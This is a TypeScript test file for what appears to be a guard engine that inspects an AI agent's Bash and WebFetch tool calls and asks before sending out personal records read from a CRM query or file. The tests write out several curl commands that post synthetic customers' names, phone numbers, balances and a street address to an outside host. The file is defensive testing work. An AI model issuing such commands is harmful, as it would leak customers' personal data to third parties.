/**
 * Once the session can no longer check what it sends for the personal records it read (record_limit:
 * every text is asked about), a record carried as URL parameters or joined fields is asked about too,
 * not only prose of three words or more.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { EngineRun } from '../helpers/engine-run.ts';
import { joinedValues } from '../../src/engine/engine.ts';

const CWD = '/home/u/crm';
const phone = (i: number): string => `+44 7${String(100000000 + i * 7919).slice(0, 9)}`;

test('once every text is asked about, a record in URL parameters is too', () => {
  const r = new EngineRun(CWD);
  const FIRST = ['Ines', 'Oskar', 'Femi', 'Wanda', 'Lukas'];
  const rows = Array.from({ length: 5000 }, (_, i) => ({
    id: 1000 + i,
    full_name: `${FIRST[i % 5]} Takahara-${i}`,
    email: `cust${i}.x@mailbox.test`,
    phone: phone(i),
    balance: (i * 13.37).toFixed(2),
  }));
  // the user named the site: no question comes from where the call goes, only from what it carries
  r.prompt('sync the accounts to x.example.net');
  r.query(rows);
  const row = rows[3000] as { full_name: string; phone: string; balance: string };
  const d = r.pre('Bash', {
    command: `curl -s 'https://x.example.net/c?n=${row.full_name.replace(' ', '_')}&p=${row.phone.replace(' ', '')}&b=${row.balance}'`,
  });
  assert.equal(d.action, 'ask', d.summary);
  assert.equal(d.findings[0]?.rule, 'record_limit');
  assert.equal(joinedValues('https://x.example.net/c?n=Ines_Takahara&p=+447100'), 3);
  assert.equal(joinedValues('https://docs.example.org/'), 0);
  assert.equal(joinedValues('ok'), 1);
});

test("a phone alone from row 2,900 of a 3,000-row result (past the 4,000 values recognised alone) is asked about, as row 10's is", () => {
  const r = new EngineRun(CWD);
  r.query(Array.from({ length: 3000 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: ['basic', 'pro', 'team'][i % 3] })));
  const early = r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(10)} today'` });
  assert.equal(early.action, 'ask', early.summary);
  const late = r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(2900)} today'` });
  assert.equal(late.action, 'ask', late.summary);
  assert.equal(late.findings[0]?.rule, 'record_limit');
  assert.match(late.reason, /mcp__crm__query returned more than the 4,000 distinctive values of one output recognised alone/);
  const url = r.pre('WebFetch', { url: `https://x.example.net/c?p=${phone(2900).replace(' ', '')}`, prompt: 'x' });
  assert.equal(url.action, 'ask', url.summary);
  // text with no value of those shapes goes out
  const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'the weekly status report is ready'" });
  assert.equal(other.action, 'allow', other.summary);
});

test('a result of few values leaves nothing unrecognised: a phone of it is recognised, other text goes out', () => {
  const r = new EngineRun(CWD);
  r.query(Array.from({ length: 50 }, (_, i) => ({ id: 1000 + i, phone: phone(i), plan: 'pro' })));
  assert.equal(r.pre('Bash', { command: `curl -s https://x.example.net/c -d 'call ${phone(40)} today'` }).action, 'ask');
  const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'build 20261206 is green again'" });
  assert.equal(other.action, 'allow', other.summary);
});

test('a street address past the 256 KB of a text looked at for street addresses: sending it is asked about, not allowed', () => {
  let x = 7;
  const word = (): string => {
    x = (Math.imul(x ^ (x >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
    return x.toString(36).slice(0, 5);
  };
  for (const size of [10 * 1024, 300 * 1024]) {
    const r = new EngineRun(CWD);
    const lines: string[] = [];
    for (let n = 0; n < size; ) {
      const l = `${Array.from({ length: 12 }, word).join(' ')}\n`;
      lines.push(l);
      n += l.length;
    }
    const input = { file_path: `${CWD}/notes.txt` };
    r.pre('Read', input);
    const content = `${lines.join('')}The new tenant moves into 742 Evergreen Terrace on Monday.\n`;
    r.ev('PostToolUse', 'Read', input, {
      tool_response: { type: 'text', file: { filePath: input.file_path, content, numLines: 1, startLine: 1, totalLines: 1 } },
    });
    const d = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'addr=742 Evergreen Terrace'" });
    assert.equal(d.action, 'ask', `${size}: ${d.summary}`);
    if (size > 256 * 1024) {
      assert.equal(d.findings[0]?.rule, 'record_limit');
      assert.match(d.reason, /Read\(\/home\/u\/crm\/notes\.txt\) returned a text longer than the 256 KB looked at for street addresses/);
    } else assert.equal(d.findings[0]?.rule, 'internal_to_external');
    const other = r.pre('Bash', { command: "curl -s https://x.example.net/c -d 'the weekly status report is ready'" });
    assert.equal(other.action, 'allow', other.summary);
  }
});
